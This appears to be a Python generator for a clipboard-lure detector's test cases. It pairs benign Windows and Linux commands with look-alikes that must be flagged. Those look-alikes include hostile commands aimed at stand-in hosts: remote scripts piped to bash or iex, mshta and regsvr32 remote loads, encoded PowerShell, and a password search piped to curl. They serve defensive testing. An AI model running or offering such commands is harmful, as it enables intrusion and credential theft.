"""Writes tests/data/cases/b15benign.jsonl: ordinary texts that were warned about or blocked (the
fifteenth blind set's benign misses, by technique), each beside the look-alikes that try to
abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b15benign.py

Deterministic. Names are made up; hosts are reserved names (*.test, *.example, *.invalid,
documentation addresses). No text is copied from a blind set, a lure collection or another
detector's fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `runbox-tool-own-tab`: Windows' own tool opening one of its tabs or views (`msconfig -4`,
  `magnify /lens`), from an IT wiki, a check page or typed: the tool alone was already a program
  name from any page, and the switch reaches no file, computer or address. Look-alikes, blocked
  from a page: a file, a share, an address, a second switch, a script host, and the typed-only
  entries of other tools (`outlook /resetnavpane /profile Contoso`, `cleanmgr /sagerun:7`:
  blocked when a page writes them, as make_b7benign and make_b9benign decided).
- `runbox-typed-console-folder`: a console kept open in a folder of this computer on a status
  query (`cmd /k cd /d D:\\src && git status`, `powershell -NoExit -Command Set-Location
  D:\\src`), typed (no source). Look-alikes: the same from a page (blocked), a fetch, a share,
  `cmd /c`, a download after it, a git switch that runs a program, too many steps.
- `runbox-typed-directory-console`: Active Directory's consoles on a domain or a domain
  controller by name (`mmc dsa.msc /domain=corp.example`), typed. Look-alikes: a share, a
  console not Windows' own, the same from a page, a switch twice.
- `prose-command-as-subject`: a sentence whose subject is a command ("conhost.exe --headless
  is used to hide…"), pasted where the guard does not know what runs. Look-alikes: the same
  command with an address or a command after it, a `;` that starts a program, the command
  given real arguments.
- `site-account-company-word`: a vendor's site named for its brand with a company's word
  after it (connect, systems) and its forge account with another (software, hq), as
  widgetcamconnect.example and github's widgetcamsoftware: both name widgetcam. Look-alikes:
  another brand, the site's community section, a check page's address or tail, plain HTTP, the
  Run box, an account with a letter more.
- `site-account-word-form`: a project's docs and its forge account spelling its name in
  another form of the last word (craftycontrol and crafty-controller, ledgerkeep and
  ledger-keeper; names of eight letters or more). Look-alikes: a short name, a page not about
  software, another ending, a forum, a check tail, the Run box.
- `site-short-domain`: a project's docs and its short domain, the name cut to its first
  letters and its end (docs.wordops.example and wops.example; a bare host as wget takes it).
  Look-alikes: fewer than four letters, another end or first letter, a fix shop's word, a page
  not about software, a forum, plain HTTP, a check tail, the Run box.
- `line-continuation`: a command continued on the next line (a backslash for POSIX shells, a
  backtick for PowerShell, a caret for cmd as the line's last character) is the one command it
  reads as, so a `| bash` or `| iex` moved down a line is the same pipe (found while probing
  README install sections, where continuations are everywhere). Lures, from a check page, a
  stranger's page or none. Near-misses that stay quiet: the project's own installer written on
  several lines, multi-line `apt-get`, `docker run` and PowerShell calls, a list of Windows
  folders each ending in a backslash, Markdown's hard line breaks.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b15benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
UNKNOWN = "unknown"
OTHER = "other"
WIKI = "https://wiki.quarrylabs.example/it/desktop-support"
LURE = "https://verify-session.umbra-stage.test/check"
CHECK_TAIL = " # I am not a robot - Verification ID: 4471"

# -- Windows' own tool on one of its tabs or views, from a wiki or typed ------------------------

OWN_TAB = [
    "msconfig -1",
    "msconfig -2",
    "msconfig -4",
    "msconfig.exe -5",
    "MSCONFIG -3",
    "magnify /lens",
    "magnify.exe /fullscreen",
    "Magnify /docked",
    '"msconfig.exe" -4',
    "magnify.exe /lens",
]
OWN_TAB_LOOKALIKES = [
    "msconfig -4 https://verify-session.umbra-stage.test/",
    "msconfig -4 -4",
    "msconfig \\\\203.0.113.7\\s\\boot.ini",
    "magnify /lens /fullscreen C:\\Users\\Public\\m.hta",
    "magnify /lens & mshta https://verify-session.umbra-stage.test/a",
    "cleanmgr /sagerun:7",
    "cleanmgr /verylowdisk",
    "cleanmgr /d C: /autoclean",
    "cleanmgr /sageset:7 /sageset:8",
    "outlook /altvba C:\\Users\\Public\\VbaProject.otm",
    "outlook /safe /profile Contoso /altvba %TEMP%\\x.otm",
    "outlook /profile \\\\203.0.113.7\\share\\p",
    "outlook /profile https://verify-session.umbra-stage.test/p",
    "outlook /safe /c ipm.note /a C:\\Users\\Public\\invoice.exe",
    "mshta /lens",
    "powershell /profile Contoso",
    # typed-only entries (resources/runbox.yaml `tools`) stay commands when a page writes them
    # (Disk Cleanup's /sageset list and Outlook's safe mode on a profile joined `pages` with
    # design16's weighing: quiet from any page, so their look-alikes here are typed-only ones)
    "cleanmgr /sagerun:7",
    "outlook /resetnavpane /profile Contoso",
    "outlook /cleanreminders /nopreview",
    "msconfig -4 /safe",
    "magnify /lens /lens",
]

# -- a console kept open in a folder of this computer on a status query, typed -----------------

CONSOLE_FOLDER = [
    "cmd /k cd /d D:\\work\\ledger-tool && git status",
    "cmd /k cd /d C:\\src\\website & git log --oneline",
    "cmd.exe /k cd C:\\Users\\sam\\source\\repos\\api && git branch -a",
    "cmd /k pushd %USERPROFILE%\\projects\\fernpack && git status -s",
    'cmd /k cd /d "D:\\My Projects\\site" && git diff --stat',
    "cmd /k ipconfig /all & git status",
    "cmd /K cd /d E:\\repos\\tidewatch && git status && git log --oneline",
    "powershell -NoExit -Command Set-Location D:\\Projects\\2031",
    "powershell.exe -NoExit -Command Set-Location -Path C:\\src\\lanternfs",
    "pwsh -NoExit -Command cd %USERPROFILE%\\source",
    "powershell -NoProfile -NoExit -c sl D:\\work",
    'pwsh -NoExit -Command Push-Location "C:\\Users\\sam\\My Repos"',
    # the console given its command as one quoted argument, as wikis write it
    'cmd /k "cd /d D:\\work\\ledger-tool && git status"',
    'cmd /k "ipconfig /all"',
    'powershell -NoExit -Command "Set-Location D:\\Projects\\2031"',
    'powershell -NoExit -Command "Get-NetAdapter"',
    # ...or on a query read through a pager or a one-word search
    "cmd /k systeminfo | more",
    "cmd /k netstat -ano | findstr 3389",
    "cmd /k ipconfig /all | more",
    'cmd /k tasklist /v | find /i "outlook"',
]
CONSOLE_FOLDER_LOOKALIKES = [
    # (text, source, expect)
    ("cmd /k cd /d D:\\work\\ledger-tool && git status", LURE, "malicious"),
    ("cmd /k cd /d D:\\work\\ledger-tool && git status", WIKI, "malicious"),
    ("powershell -NoExit -Command Set-Location D:\\Projects\\2031", LURE, "malicious"),
    ("cmd /k cd /d D:\\work && git pull", None, "flagged"),
    ("cmd /k cd /d D:\\work && git clone https://git.umbra-stage.test/x", None, "flagged"),
    ("cmd /k cd /d D:\\work && git status & curl -o a.exe https://umbra-stage.test/a.exe", None, "flagged"),
    ("cmd /k cd /d \\\\203.0.113.7\\share && git status", None, "flagged"),
    ("cmd /k pushd \\\\files.umbra-stage.test\\s && git status", None, "flagged"),
    ("cmd /c cd /d D:\\work && start update.exe", None, "flagged"),
    ("cmd /k cd /d D:\\work && git -c core.fsmonitor=calc status", None, "flagged"),
    ("cmd /k cd /d D:\\work && git status && git status && git status && git status", None, "flagged"),
    ("cmd /k cd /d D:\\work && git status | cmd", None, "flagged"),
    ("powershell -NoExit -Command Set-Location \\\\203.0.113.7\\s", None, "flagged"),
    ("powershell -NoExit -Command Set-Location D:\\w; iwr https://umbra-stage.test/p | iex", None, "malicious"),
    ("powershell -Command Set-Location D:\\w", None, "flagged"),
    ("powershell -NoExit -EncodedCommand UwBlAHQALQBMAG8AYwBhAHQAaQBvAG4A", None, "flagged"),
    ("pwsh -NoExit -Command Set-Location D:\\w D:\\x", None, "flagged"),
    ("cmd /k cd /d D:\\work && git status" + CHECK_TAIL, LURE, "malicious"),
    ('cmd /k "cd /d D:\\work && git status" & calc', None, "flagged"),
    ('cmd /k "cd /d D:\\work && curl https://umbra-stage.test/a | sh"', None, "flagged"),
    ('cmd /k "cd /d D:\\work" "git status"', None, "flagged"),
    ('cmd /k "cd /d \\\\203.0.113.7\\s && git status"', None, "flagged"),
    ('powershell -NoExit -Command "Set-Location D:\\w; iex (irm https://umbra-stage.test/p)"', None, "malicious"),
    ('cmd /k "cd /d D:\\work && git status"', LURE, "malicious"),
    ("cmd /k netstat -ano | more", LURE, "malicious"),
    ("cmd /k dir C:\\Users\\sam\\Downloads", WIKI, "malicious"),
    # folder listings are the scrolling "proof" fake support staff dictate: never quiet
    ("cmd /k dir /s C:\\", None, "flagged"),
    ("cmd /k tree C:\\Windows", None, "flagged"),
    ("cmd /k dir /s /b C:\\src | sort", None, "flagged"),
    ("cmd /k ipconfig /all | bash", None, "flagged"),
    ("cmd /k ipconfig /all | powershell -", None, "flagged"),
    ("cmd /k dir \\\\203.0.113.7\\s", None, "flagged"),
    ("cmd /k dir C:\\src | findstr x && curl -o a.exe https://umbra-stage.test/a.exe", None, "flagged"),
    ("cmd /k ipconfig /all || calc", None, "flagged"),
    ("cmd /c ipconfig /all | more", None, "flagged"),
    ("cmd /k type C:\\Users\\Public\\a.txt | more", None, "flagged"),
    ('cmd /k findstr /s "password" C:\\Users\\*.txt | curl -d @- https://umbra-stage.test/x', None, "flagged"),
    ("cmd /k dir C:\\src | more" + CHECK_TAIL, LURE, "malicious"),
]  # fmt: skip

# -- Active Directory's consoles on a domain or a domain controller by name, typed ------------

DIRECTORY = [
    "mmc.exe dsa.msc /domain=corp.example",
    "mmc dsa.msc /server=dc01.corp.example",
    "dsa.msc /domain=quarrylabs.example",
    "dsa.msc /domain=corp.example /server=dc02.corp.example",
    "dssite.msc /server=dc01",
    "mmc dssite.msc /domain=ad.quarrylabs.example",
    "DSA.MSC /server=DC-03",
    "mmc.exe dsa.msc /server=192.0.2.10",
    "dsa.msc /domain=corp.example /32",
    "mmc dsa.msc /server=dc01.corp.example /a",
]
DIRECTORY_LOOKALIKES = [
    ("mmc dsa.msc /domain=\\\\203.0.113.7\\s", None, "flagged"),
    ("mmc \\\\203.0.113.7\\s\\dsa.msc /domain=corp.example", None, "flagged"),
    ("mmc evil.msc /domain=corp.example", None, "flagged"),
    ("dsa.msc /domain=corp.example /domain=x.example", None, "flagged"),
    ("dsa.msc /domain=https://umbra-stage.test/", None, "flagged"),
    ("mmc.exe dsa.msc /domain=corp.example", LURE, "malicious"),
    ("dsa.msc /server=dc01.corp.example", WIKI, "malicious"),
    ("mmc dsa.msc /domain=corp.example & powershell -w h iwr umbra-stage.test|iex", None, "malicious"),
    ("mmc dsa.msc /domain=corp.example C:\\Users\\Public\\x.msc", None, "flagged"),
    ("mmc %TEMP%\\dsa.msc /domain=corp.example", None, "flagged"),
]  # fmt: skip

# -- a sentence whose subject is a command --------------------------------------------------------

SUBJECT = [
    "conhost.exe --headless is used to hide the console window of the child it starts; defenders pair it with a download before alerting.",
    "mshta can run an HTA straight from a web address, which is why fake check pages keep using it.",
    "certutil -urlcache -f was abused for years to fetch files, so most rule sets watch it closely.",
    "powershell -w hidden is what most of these lures add so that no window shows up at all.",
    "rundll32 has been used to start exported functions of libraries that arrive in mail attachments.",
    "bitsadmin /transfer is deprecated by Microsoft but still ships with every recent version of Windows.",
    "curl -fsSL is the usual way installers are fetched, and it is not a warning sign on its own.",
    "msiexec /q can install a package without asking, which helpdesk scripts rely on every day.",
    "wscript should never be the program that opens a file you just got from an unknown sender.",
    "regsvr32 /s /i was the trick known as Squiblydoo, loading a scriptlet from a remote server.",
    "conhost --headless ist ein legitimer Schalter, wird aber von Angreifern gern missbraucht.",
    "mshta est un programme de Windows qui peut lancer des applications HTML depuis une adresse.",
]  # fmt: skip
SUBJECT_LOOKALIKES = [
    # (text, target, expect)
    ("conhost.exe --headless powershell -w h -c \"iwr https://umbra-stage.test/p | iex\"", UNKNOWN, "malicious"),
    ("mshta is https://verify-session.umbra-stage.test/a.hta and nothing else to see here", UNKNOWN, "flagged"),
    ("conhost --headless is used to hide the console; powershell -w h -enc SQBFAFgA", UNKNOWN, "flagged"),
    ("certutil -urlcache -f https://umbra-stage.test/a.exe a.exe was how it arrived", UNKNOWN, "flagged"),
    ("conhost.exe --headless is used; mshta https://verify-session.umbra-stage.test/x", RUN, "malicious"),
    ("mshta can run this: mshta https://verify-session.umbra-stage.test/check.hta", RUN, "malicious"),
    ("powershell -w hidden is the way & iwr https://umbra-stage.test/p -OutFile $env:TEMP\\a.exe", UNKNOWN, "flagged"),
    ("bitsadmin /transfer job https://umbra-stage.test/a.exe %TEMP%\\a.exe is the command we use", UNKNOWN, "flagged"),
    ("conhost --headless is used to hide the console of cmd /c start %TEMP%\\a.exe", UNKNOWN, "flagged"),
    ("curl -fsSL is used by the installer | bash", TERMINAL, "flagged"),
    ("regsvr32 /s /n /u /i:https://umbra-stage.test/x.sct scrobj.dll is Squiblydoo", UNKNOWN, "flagged"),
    ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\") is a test", UNKNOWN, "flagged"),
]  # fmt: skip


# -- own-page installers: a site and its account or short domain spelling one name ------------

COMPANY_WORD = [
    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/v3/install.sh")'),
    ("https://www.lumacamconnect.example/download", "curl -fsSL https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh | sudo bash"),
    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepool-software/deploy/main/agent.sh | sh"),
    ("https://www.tidepoolsystems.example/downloads/", "wget -qO- https://raw.githubusercontent.com/tidepoolsoftware/deploy/main/agent.sh | sudo bash"),
    ("https://docs.marlowconnect.example/install", "bash -c \"$(curl -fsSL https://gitlab.com/marlowhq/tools/-/raw/main/install.sh)\""),
    ("https://www.quenbysystems.example/support/linux-agent", "curl -sL https://raw.githubusercontent.com/quenby-io/agent-scripts/master/setup.sh | sudo bash -s -- --key ABC123"),
    ("https://docs.orrinconnect.example/", "git clone https://github.com/orrinsoftware/orrin-agent && cd orrin-agent && sudo ./setup.sh"),
    ("https://www.velmasystems.example/download/", "sudo bash -c \"$(wget -qO- https://raw.githubusercontent.com/velma-labs/install/main/velma.sh)\""),
    ("https://docs.peakhollowconnect.example/start", "curl -fsSL https://raw.githubusercontent.com/peakhollowsoftware/get/main/install.sh | bash"),
    ("https://www.brenconnect.example/download.aspx", "curl -s https://raw.githubusercontent.com/brenapp/agent/main/install.sh | sudo bash"),
]  # fmt: skip
COMPANY_WORD_LOOKALIKES = [
    # (page, text, expect)
    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamxsoftware/agent-install/main/install.sh")', "flagged"),
    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/quarrysoftware/agent-install/main/install.sh")', "flagged"),
    ("https://community.lumacamconnect.example/t/agent/42", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
    ("https://www.lumacamconnect.example/verify-human", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "malicious"),
    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")' + CHECK_TAIL, "malicious"),
    ("https://www.lumacamconnect.example/download.aspx", "curl -s http://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh | sudo bash", "flagged"),
    ("https://lumacam-connect-support.example/fix", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepool-softwarex/deploy/main/agent.sh | sh", "flagged"),
    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepoolsoftware/deploy/main/agent.sh | sh; curl -fsSL https://umbra-stage.test/x | sh", "flagged"),
    ("https://www.quillmere-bakery.example/blog/lumacam", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
    ("https://www.lumacamconnect.example/download.aspx", 'powershell -c "iwr https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.ps1 | iex"', "malicious"),
]  # fmt: skip

WORD_FORM = [
    ("https://docs.craftlanecontrol.example/pages/install/linux/", "git clone https://gitlab.com/craftlane-controller/craftlane-installer-4.0.git && cd craftlane-installer-4.0 && sudo ./install_craftlane.sh"),
    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh"),
    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash"),
    ("https://www.streamrelay.example/docs/install", "bash <(curl -sL https://raw.githubusercontent.com/streamrelays/scripts/main/install.sh)"),
    ("https://docs.tracehandle.example/linux", "wget -O setup.sh https://raw.githubusercontent.com/tracehandler/deploy/master/setup.sh && chmod +x setup.sh && sudo ./setup.sh"),
    ("https://docs.packetshape.example/install", "curl -sSL https://gitlab.com/packetshaper/tools/-/raw/main/install.sh | sh"),
    ("https://www.boltschedule.example/docs/", "git clone --depth=1 https://github.com/boltscheduler/bootstrap.git && cd bootstrap && sudo ./run.sh"),
    ("https://docs.harborwatch.example/install/debian", "curl -fsSL https://raw.githubusercontent.com/harbor-watchers/agent/main/install.sh | sudo bash"),
    ("https://docs.fieldrecord.example/cli", "curl -fsSL https://raw.githubusercontent.com/field-recorder/cli/main/install.sh | sh"),
    ("https://docs.quietbuild.example/setup", "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/quietbuilders/setup/main/install.sh)\""),
]  # fmt: skip
WORD_FORM_LOOKALIKES = [
    ("https://docs.kite.example/install/", "git clone https://gitlab.com/kiter/tools.git && cd tools && sudo ./install.sh", "flagged"),
    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keepery/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeping/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
    ("https://www.ledgerkeep.example/recipes/pancakes", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
    ("https://forum.ledgerkeep.example/t/install/7", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh" + CHECK_TAIL, "malicious"),
    ("https://docs.mirrorsync.example/captcha-check", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "malicious"),
    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/mirror-syncers-fix/get/main/install.sh | sudo bash", "flagged"),
    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/syncmirrorer/get/main/install.sh | sudo bash", "flagged"),
    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL http://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "flagged"),
    ("https://www.quillmere-bakery.example/news/mirrorsync", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "flagged"),
]  # fmt: skip

SHORT_DOMAIN = [
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wops.example && sudo bash wo"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo https://wops.example && sudo bash wo"),
    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.example/install.sh | sudo bash"),
    ("https://learn.nodebench.example/cli/", "curl -fsSL https://nbench.example | sh"),
    ("https://docs.gridstack.example/setup", "bash <(curl -fsSL https://gstack.example/i)"),
    ("https://docs.cloudkeeper.example/agent", "curl -sSL https://ckeeper.example/agent.sh -o agent.sh && sudo sh agent.sh"),
    ("https://www.mailforge.example/docs/install", "wget -qO- https://mforge.example/install | sudo bash"),
    ("https://docs.shipyardctl.example/", "curl -fsSL https://syardctl.example/get | bash"),
    ("https://docs.datasieve.example/install/linux", "sh -c \"$(curl -fsSL https://dsieve.example/install.sh)\""),
    ("https://docs.hostpanel.example/installation/", "wget -O hp.sh https://hpanel.example/latest && sudo bash hp.sh"),
]  # fmt: skip
SHORT_DOMAIN_LOOKALIKES = [
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wo.example && sudo bash wo", "flagged"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wopx.example && sudo bash wo", "flagged"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo xops.example && sudo bash wo", "flagged"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo w-ops.example && sudo bash wo", "flagged"),
    ("https://docs.winfix.example/install/", "curl -fsSL https://wfix.example | sudo bash", "flagged"),
    ("https://www.wordops.example/blog/holiday-recipes", "wget -qO wo wops.example && sudo bash wo", "flagged"),
    ("https://forum.wordops.example/t/install/9", "wget -qO wo wops.example && sudo bash wo", "flagged"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo http://wops.example && sudo bash wo", "flagged"),
    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wops.example && sudo bash wo" + CHECK_TAIL, "malicious"),
    ("https://docs.wordops.example/verify-human/", "wget -qO wo wops.example && sudo bash wo", "malicious"),
    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.example/install.sh | sudo bash; curl -fsSL https://umbra-stage.test/p | bash", "flagged"),
    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.pages.dev/install.sh | sudo bash", "flagged"),
]  # fmt: skip


# -- a command continued on the next line --------------------------------------------------------

STRANGER = "https://www.quillmere-bakery.example/verify/step2"
CHECK_PAGE = "https://verify-human.umbra-stage.test/"
CONTINUED = [
    # (text, page, target, expect)
    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", CHECK_PAGE, TERMINAL, "malicious"),
    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", STRANGER, TERMINAL, "malicious"),
    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\n  | bash", None, TERMINAL, "flagged"),
    ("wget -qO- \\\n https://cdn.umbra-stage.test/i.sh | sh", STRANGER, TERMINAL, "malicious"),
    ("bash -c \\\n \"$(curl -fsSL https://cdn.umbra-stage.test/m)\"", STRANGER, TERMINAL, "malicious"),
    ("sudo bash -c \"$(curl -fsSL \\\n https://cdn.umbra-stage.test/m)\"", CHECK_PAGE, TERMINAL, "malicious"),
    ("curl -s https://cdn.umbra-stage.test/p.py \\\n | python3", None, TERMINAL, "flagged"),
    ("curl -sSL https://cdn.umbra-stage.test/m.sh \\\n -o /tmp/m.sh && chmod +x /tmp/m.sh \\\n && /tmp/m.sh" + CHECK_TAIL, STRANGER, TERMINAL, "malicious"),
    ("curl -fsSL https://cdn.umbra-stage.test/i.sh \\\r\n | zsh", STRANGER, TERMINAL, "malicious"),
    ("curl -fsSL \\\n  https://cdn.umbra-stage.test/i.sh \\\n  | \\\n  sudo bash", CHECK_PAGE, TERMINAL, "malicious"),
    ("iwr https://cdn.umbra-stage.test/a.ps1 `\n | iex", STRANGER, RUN, "malicious"),
    ("powershell -w h -c \"iwr https://cdn.umbra-stage.test/a.ps1 `\n | iex\"", None, TERMINAL, "malicious"),
    ("irm https://cdn.umbra-stage.test/a `\n  | iex", None, TERMINAL, "flagged"),
    ("cmd /c curl -o %TEMP%\\u.exe https://cdn.umbra-stage.test/u.exe ^\n && start %TEMP%\\u.exe", STRANGER, RUN, "malicious"),
]  # fmt: skip
CONTINUED_QUIET = [
    # (text, page, target)
    ("curl -fsSL https://get.lanternfs.example/install.sh \\\n  | sh -s -- --yes", "https://docs.lanternfs.example/install", TERMINAL),
    ("curl --proto '=https' --tlsv1.2 -sSf \\\n  https://sh.rustup.rs | sh", "https://github.com/tarnwick/lanternfs", TERMINAL),
    ("sudo apt-get update && \\\n  sudo apt-get install -y \\\n    build-essential \\\n    libssl-dev", "https://docs.lanternfs.example/build", TERMINAL),
    ("docker run -d \\\n  --name lantern \\\n  -p 8080:8080 \\\n  -v lantern:/data \\\n  ghcr.io/lanternfs/lantern:latest", "https://docs.lanternfs.example/docker", TERMINAL),
    ("Get-ChildItem -Path C:\\Logs `\n  -Filter *.log `\n  -Recurse | Remove-Item -WhatIf", None, TERMINAL),
    ("Folders to back up:\nC:\\Users\\sam\\Documents\\\nD:\\Backups\\\nE:\\Media\\", None, UNKNOWN),
    ("Line one of the note\\\nline two of the note\\\nand the last line.", None, OTHER),
    ("./configure \\\n  --prefix=/usr/local \\\n  --with-ssl && make && sudo make install", "https://docs.lanternfs.example/build", TERMINAL),
    ("git clone https://github.com/tarnwick/lanternfs.git \\\n  && cd lanternfs && make", "https://github.com/tarnwick/lanternfs", TERMINAL),
    ("kubectl apply \\\n  -f https://raw.githubusercontent.com/tarnwick/lanternfs/main/deploy/operator.yaml", "https://github.com/tarnwick/lanternfs", TERMINAL),
]  # fmt: skip


def continuations(book: Book) -> None:
    for text, page, target, expect in CONTINUED:
        book.add("line-continuation", text, expect, "any", target, page)
    for text, page, target in CONTINUED_QUIET:
        book.add("line-continuation", text, "not_flagged", "any", target, page)


def installers(book: Book) -> None:
    groups = [
        ("site-account-company-word", COMPANY_WORD, COMPANY_WORD_LOOKALIKES),
        ("site-account-word-form", WORD_FORM, WORD_FORM_LOOKALIKES),
        ("site-short-domain", SHORT_DOMAIN, SHORT_DOMAIN_LOOKALIKES),
    ]
    for technique, cases, lookalikes in groups:
        for page, text in cases:
            book.add(technique, text, "not_flagged", "linux", TERMINAL, page)
        for page, text, expect in lookalikes:
            target = RUN if text.startswith("powershell") else TERMINAL
            book.add(technique + "-lookalike", text, expect, "linux", target, page)
        # the same installers pasted into the Run box, or with no page at all
        page, text = cases[0]
        book.add(technique + "-lookalike", text, "malicious", "linux", RUN, page)
        book.add(technique + "-lookalike", text, "flagged", "linux", TERMINAL, None)


def run_box(book: Book) -> None:
    for i, text in enumerate(OWN_TAB):
        book.add(
            "runbox-tool-own-tab", text, "not_flagged", "windows", RUN, (WIKI, None, LURE)[i % 3]
        )
    for i, text in enumerate(OWN_TAB_LOOKALIKES):
        page = (LURE, WIKI)[i % 2]
        book.add("runbox-tool-own-tab-lookalike", text, "malicious", "windows", RUN, page)
    for text in CONSOLE_FOLDER:
        book.add("runbox-typed-console-folder", text, "not_flagged", "windows", RUN)
    for text, page, expect in CONSOLE_FOLDER_LOOKALIKES:
        book.add("runbox-typed-console-folder-lookalike", text, expect, "windows", RUN, page)
    for text in DIRECTORY:
        book.add("runbox-typed-directory-console", text, "not_flagged", "windows", RUN)
    for text, page, expect in DIRECTORY_LOOKALIKES:
        book.add("runbox-typed-directory-console-lookalike", text, expect, "windows", RUN, page)


def prose(book: Book) -> None:
    pages = ("https://blog.detection-notes.example/lolbins", None)
    for i, text in enumerate(SUBJECT):
        book.add(
            "prose-command-as-subject",
            text,
            "not_flagged",
            "any",
            (UNKNOWN, OTHER)[i % 2],
            pages[i % 2],
        )
    for text, target, expect in SUBJECT_LOOKALIKES:
        book.add("prose-command-as-subject-lookalike", text, expect, "any", target, pages[0])


def build() -> list[dict[str, str]]:
    book = Book("b15b")
    run_box(book)
    prose(book)
    installers(book)
    continuations(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
